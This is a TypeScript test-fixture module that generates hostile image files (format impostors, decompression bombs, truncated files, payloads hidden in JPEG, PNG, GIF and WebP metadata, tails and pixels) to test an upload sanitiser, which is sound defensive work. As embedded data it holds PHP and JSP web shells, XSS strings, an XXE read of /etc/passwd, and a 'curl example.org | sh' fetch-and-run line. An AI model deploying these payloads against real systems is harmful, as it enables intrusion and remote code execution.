// Hostile files of every kind that we know, made here, so that a clone without the corpus proves the same. Each
// has a marker where it carries something; which it is says whether it may be taken at all.

import { deflateSync } from "node:zlib";
import { phoneExif } from "../support/make-images/exif-structure.ts";
import { extension, frame, plainGif, screen, TRAILER } from "../support/make-images/gif-file.ts";
import {
  exifSegment,
  plainJpeg,
  segment,
  splitSegments,
  withSegments,
} from "../support/make-images/jpeg-file.ts";
import {
  chunk,
  joinChunks,
  plainPng,
  splitChunks,
  u32,
  withChunks,
} from "../support/make-images/png-file.ts";
import { seededRandom } from "../support/make-images/seeded-random.ts";
import { extended, joinRiff, pictureOf, plainWebp, riff } from "../support/make-images/webp-file.ts";
import { hostileVariants } from "./hostile-variants.ts";

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
  readonly mustBeRefused: boolean;
  /** What nothing that is served may hold; empty when there is no such thing. */
  readonly marker: string;
}

const PHP = "<?php system($_GET['c']); ?>";
const XSS = "<script>alert(document.domain)</script>";
const text = (words: string) => Buffer.from(words, "latin1");

const refused = (name: string, bytes: Buffer, marker = ""): HostileFile => ({
  name,
  bytes,
  mustBeRefused: true,
  marker,
});
const carrying = (name: string, marker: string, bytes: Buffer): HostileFile => ({
  name,
  bytes,
  mustBeRefused: false,
  marker,
});

/** A picture whose uncompressed pixels are `words` over and over. */
export function pngSpelling(words: string, colourType = 2): Buffer {
  const rows = Array.from({ length: 8 }, () => text(`\0${words.padEnd(96).slice(0, 96)}`));
  return joinChunks([
    chunk("IHDR", Buffer.concat([u32(colourType === 2 ? 32 : 96, 8), Buffer.from([8, colourType, 0, 0, 0])])),
    chunk("IDAT", deflateSync(Buffer.concat(rows), { level: 0 })),
    chunk("IEND"),
  ]);
}

/** A picture whose palette spells `words`. */
export function pngWithPalette(words: string): Buffer {
  return joinChunks(
    splitChunks(plainPng({ colourType: 3 })).map(({ type, body }) =>
      type === "PLTE" ? chunk(type, text(words.padEnd(768))) : chunk(type, body),
    ),
  );
}

/** A picture whose compressed bytes are followed by `words`, inside the same chunk. */
export function pngWithTail(words: string): Buffer {
  return joinChunks(
    splitChunks(plainPng()).map(({ type, body }) =>
      type === "IDAT" ? chunk(type, Buffer.concat([body, text(words)])) : chunk(type, body),
    ),
  );
}

export function gifWithPalette(words: string): Buffer {
  const head = screen();
  text(words.padEnd(768)).copy(head, 13);
  return Buffer.concat([head, frame(), TRAILER]);
}

/** A picture whose last scan ends in `words`. */
export async function jpegWithTail(words: string): Promise<Buffer> {
  const segments = splitSegments(await plainJpeg());
  const last = segments.pop()!;
  const whole = withSegments(await plainJpeg(), []);
  const end = whole.lastIndexOf(last.entropy) + last.entropy.length;
  return Buffer.concat([whole.subarray(0, end), text(words), whole.subarray(end)]);
}

export async function webpWithTail(words: string): Promise<Buffer> {
  const chunks = pictureOf(await plainWebp());
  return joinRiff(chunks.map(({ type, body }) => riff(type, Buffer.concat([body, text(words)]))));
}

function impostors(): readonly HostileFile[] {
  const texts: Readonly<Record<string, string>> = {
    "fake.svg.jpg": `<svg xmlns="http://www.w3.org/2000/svg"><script>SLM-svg</script></svg>`,
    "fake.html.png": `<!doctype html>${XSS}SLM-html`,
    "fake.pdf.jpg": "%PDF-1.7\nSLM-pdf",
    "fake.php.gif": `${PHP}SLM-php`,
    "fake.xml.webp": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>SLM-xml&b;</a>`,
    "fake.mvg.jpg": "push graphic-context\nimage over 0,0 0,0 'https://SLM-mvg/'\npop graphic-context",
    "fake.tiff.jpg": "II*\0\x08\0\0\0SLM-tiff",
    "fake.mp4.jpg": "\0\0\0\x18ftypisom\0\0\0\0isommp42SLM-mp4",
    "fake.jp2.jpg": "\0\0\0\x0cjP  \r\n\x87\nSLM-jp2",
    "fake.exe.jpg": "MZ\x90\0SLM-exe",
    "magic-only.jpg": `\xff\xd8\xff${PHP}SLM-magic-jpeg`,
    "magic-only.png": `\x89PNG\r\n\x1a\n${XSS}SLM-magic-png`,
    "magic-only.gif": `GIF89a${XSS}SLM-magic-gif`,
    "magic-only.webp": `RIFF\x10\0\0\0WEBP${XSS}SLM-magic-webp`,
    "magic-only.avif": `\0\0\0\x18ftypavif\0\0\0\0mif1avif${XSS}SLM-magic-avif`,
    "magic-only.heic": `\0\0\0\x18ftypheic\0\0\0\0mif1heic${XSS}SLM-magic-heic`,
    "empty.jpg": "",
    "one-byte.png": "\x89",
  };
  return Object.entries(texts).map(([name, words]) =>
    refused(name, text(words), /SLM-[\w-]+/.exec(words)?.[0]),
  );
}

function bombs(): readonly HostileFile[] {
  const header = (width: number, height: number) =>
    joinChunks([
      chunk("IHDR", Buffer.concat([u32(width, height), Buffer.from([1, 0, 0, 0, 1])])),
      chunk("IDAT", deflateSync(Buffer.alloc(100_000))),
      chunk("IEND"),
    ]);
  const many = Array.from({ length: 600 }, () => frame({ width: 1, height: 1, delay: 1 }));
  return [
    refused("wide.png", header(12_000, 12_000)),
    refused("vast.png", header(0x7fffffff, 0x7fffffff)),
    refused("nothing.png", header(0, 10)),
    refused("short.png", header(7000, 7000)),
    refused("many.gif", Buffer.concat([screen(), ...many, TRAILER])),
    refused("canvas.webp", joinRiff([extended(0, 1 << 24, 1 << 24)])),
  ];
}

async function cutShort(): Promise<readonly HostileFile[]> {
  const sound = {
    "cut.jpg": await plainJpeg({ width: 200, height: 200 }),
    "cut.png": plainPng({ width: 200, height: 200 }),
    "cut.gif": plainGif(),
    "cut.webp": await plainWebp({ width: 200, height: 200 }),
  };
  return Object.entries(sound).flatMap(([name, file]) =>
    [0.1, 0.5, 0.95].map((share) => refused(name, file.subarray(0, Math.floor(file.length * share)))),
  );
}

async function carriers(): Promise<readonly HostileFile[]> {
  const jpeg = await plainJpeg();
  const webp = pictureOf(await plainWebp());
  return [
    carrying("comment.jpg", "SLM-com", withSegments(jpeg, [segment(0xfe, `${PHP}SLM-com`)])),
    carrying("app9.jpg", "SLM-app9", withSegments(jpeg, [segment(0xe9, `${PHP}SLM-app9`)])),
    carrying("exif.jpg", "SLM-exif", withSegments(jpeg, [exifSegment(phoneExif("SLM-exif"))])),
    carrying("tail.jpg", "SLM-tail-jpeg", withSegments(jpeg, [], `${XSS}SLM-tail-jpeg`)),
    carrying("text.png", "SLM-text", withChunks(plainPng(), "IDAT", [chunk("tEXt", `a\0${XSS}SLM-text`)])),
    carrying("tail.png", "SLM-tail-png", Buffer.concat([plainPng(), text(`${PHP}SLM-tail-png`)])),
    carrying(
      "app.gif",
      "SLM-app-gif",
      Buffer.concat([screen(), extension(0xff, `${PHP}SLM-app-gif`, "PAYLOAD1.00"), frame(), TRAILER]),
    ),
    carrying("tail.gif", "SLM-tail-gif", Buffer.concat([plainGif(), text(`${PHP}SLM-tail-gif`)])),
    carrying("xmp.webp", "SLM-xmp", joinRiff([extended(0), ...webp, riff("XMP ", `${XSS}SLM-xmp`)])),
    carrying("tail.webp", "SLM-tail-webp", Buffer.concat([await plainWebp(), text(`${XSS}SLM-tail-webp`)])),
  ];
}

/** What is spelt by pixels, palettes and the tails of coded data: to take it out would be to change the picture. */
export async function codeInPictures(words: string): Promise<Readonly<Record<string, Buffer>>> {
  return {
    "pixels.png": pngSpelling(words),
    "grey-pixels.png": pngSpelling(words, 0),
    "palette.png": pngWithPalette(words),
    "palette.gif": gifWithPalette(words),
    "tail-inside.png": pngWithTail(words),
    "tail-inside.jpg": await jpegWithTail(words),
    "tail-inside.webp": await webpWithTail(words),
  };
}

export const CODE_SAMPLES: readonly string[] = [
  `${PHP}SLM-php`,
  "<?=$_GET[0]($_POST[1]);?>SLM-short",
  "<?=`$_GET[0]`?>SLM-tick",
  "<?php /*\x80\xfe\x01*/ eval($_POST['x']);SLM-comment",
  `${XSS}SLM-xss`,
  "<ScRiPt src=//example.org/x.js></sCrIpT>SLM-case",
  "<svg/onload=alert(1)>SLM-svg",
  "<img src=x onerror=alert(1)>SLM-img",
  "<!DOCTYPE html><html><body>SLM-doctype",
  "<%@ page language=java %><% Runtime.getRuntime().exec(request.getParameter(0)) %>SLM-jsp",
  "%PDF-1.4\n1 0 obj<</Type/Catalog>>SLM-pdf",
  "PK\x03\x04\x14\0\0\0\x08\0SLM-zip",
  "PK\x05\x06\0\0\0\0\x01\0\x01\0SLM-zip-end",
  "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*SLM",
  "\x7fELF\x02\x01\x01\0SLM-elf",
  "#!/bin/sh\ncurl example.org | sh\nSLM-shell",
];

/** All of them. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const spelt = await Promise.all(
    CODE_SAMPLES.map(async (words) =>
      Object.entries(await codeInPictures(words)).map(([name, bytes]) =>
        refused(name, bytes, /SLM-?\w*$/.exec(words)?.[0]),
      ),
    ),
  );
  const noise = seededRandom(4).bytes(65_536);
  return [
    ...impostors(),
    ...bombs(),
    ...(await cutShort()),
    ...(await carriers()),
    ...spelt.flat(),
    ...(await hostileVariants()),
    refused("noise.jpg", noise),
    refused("noise-behind-a-signature.jpg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), noise])),
    refused("photo.php", await plainJpeg()),
    refused("photo.jpg.PHTML", await plainJpeg({ width: 80 })),
  ];
}
